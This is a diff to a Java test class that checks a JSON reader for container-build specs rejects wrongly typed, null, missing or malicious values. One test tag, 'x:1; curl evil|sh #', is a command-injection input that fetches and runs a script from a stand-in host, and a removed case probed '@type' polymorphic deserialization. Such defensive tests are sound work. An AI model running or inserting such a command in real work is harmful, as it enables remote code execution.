@@ -53,30 +53,34 @@ class SpecJsonTest {
         assertThat(SpecJson.read(SpecJson.of(spec))).isEqualTo(spec);
     }
 
-    /** Whatever is left out or null, nothing later meets it. */
+    /** Whatever is of another type, null or against an option's rule, nothing later meets it. */
     @Test
     void refusesOneThatIsNotWhole() throws Exception {
         ObjectMapper json = new ObjectMapper();
-        String whole = SpecJson.of(Specs.valid(Specs.dockerfile()));
+        String whole = SpecJson.of(Specs.valid(Specs.dockerfile()
+                .uid("5")
+                .push(true)
+                .load(false)
+                .platforms(List.of("linux/amd64"))
+                .labels(Map.of("a", "b"))));
         int refused = 0;
         for (Map.Entry<String, JsonNode> member : json.readTree(whole).properties()) {
-            ObjectNode without = (ObjectNode) json.readTree(whole);
-            without.remove(member.getKey());
-            assertThatThrownBy(() -> SpecJson.read(without.toString()))
-                    .as(member.getKey())
-                    .isInstanceOf(UnreadableResultException.class);
-            if (member.getValue().isContainerNode()) {
-                without.putNull(member.getKey());
-                assertThatThrownBy(() -> SpecJson.read(without.toString()))
-                        .as(member.getKey())
+            for (String wrong : List.of("null", "7", "[null]", "[7]", "{\"a\": null}", "[[]]")) {
+                ObjectNode other = (ObjectNode) json.readTree(whole);
+                other.set(member.getKey(), json.readTree(wrong));
+                assertThatThrownBy(() -> SpecJson.read(other.toString()))
+                        .as(member.getKey() + " " + wrong)
                         .isInstanceOf(UnreadableResultException.class);
                 refused++;
             }
         }
-        assertThat(refused).isGreaterThan(4);
+        assertThat(refused).isGreaterThan(30);
+        ObjectNode without = (ObjectNode) json.readTree(whole);
+        without.remove("tags");
+        assertThatThrownBy(() -> SpecJson.read(without.toString())).hasMessageContaining("it is not whole");
         for (String tag : List.of("x:1; curl evil|sh #", "-a", "A")) {
             ObjectNode other = (ObjectNode) json.readTree(whole);
-            ((ObjectNode) other.path("tags").get(0)).put("name", tag);
+            other.putArray("tags").add(tag);
             assertThatThrownBy(() -> SpecJson.read(other.toString())).hasMessageContaining("it is not whole");
         }
     }
@@ -90,7 +94,8 @@ class SpecJsonTest {
                 "{}",
                 "[]",
                 "{\"tags\":[]}",
-                "{\"tags\":[{\"name\":\"a\"}],\"source\":{\"@type\":\"java.lang.Object\"}}"
+                "{\"tags\":[{\"name\":\"a\"}]}",
+                "{\"tags\":[\"a\"],\"cvmfs\":{}}"
             })
     void refusesWhatIsNone(String text) {
         assertThatThrownBy(() -> SpecJson.read(text)).isInstanceOf(UnreadableResultException.class);
